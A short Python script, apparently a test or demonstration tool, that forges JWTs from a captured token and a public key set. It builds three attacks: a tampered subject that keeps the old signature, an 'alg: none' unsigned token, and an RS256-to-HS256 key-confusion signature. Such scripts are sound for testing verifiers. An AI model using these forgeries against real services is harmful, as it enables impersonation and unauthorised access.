#!/usr/bin/env python3
"""What an attacker makes of a token overheard and of the published key set: nothing secret is known.

usage: forge.py tampered|none|confused JWKS < TOKEN
  tampered  the subject is another, the signature as it was
  none      the same, unsigned, with "alg": "none" (RFC 8725 section 2.1)
  confused  the same, signed by HMAC with the RSA public key's PEM as the secret (the same section)
"""

import base64
import hashlib
import hmac
import json
import sys

from joserfc.jwk import RSAKey

from keys import base64url


def read(part):
    return json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))


def write(value):
    return base64url(json.dumps(value).encode())


def tampered(header, claims, signature, keys):
    return f"{write(header)}.{write(claims)}.{signature}"


def none(header, claims, signature, keys):
    return f"{write(header | {'alg': 'none'})}.{write(claims)}."


def confused(header, claims, signature, keys):
    secret = next(RSAKey.import_key(key).as_pem(private=False) for key in keys if key["kid"] == header["kid"])
    signed = f"{write(header | {'alg': 'HS256'})}.{write(claims)}"
    return f"{signed}.{base64url(hmac.digest(secret, signed.encode(), hashlib.sha256))}"


def main():
    kind, path = sys.argv[1:]
    forge = {"tampered": tampered, "none": none, "confused": confused}[kind]
    with open(path) as file:
        keys = json.load(file)["keys"]
    header, claims, signature = sys.stdin.read().strip().split(".")
    print(forge(read(header), read(claims) | {"sub": "mallory"}, signature, keys))


if __name__ == "__main__":
    main()
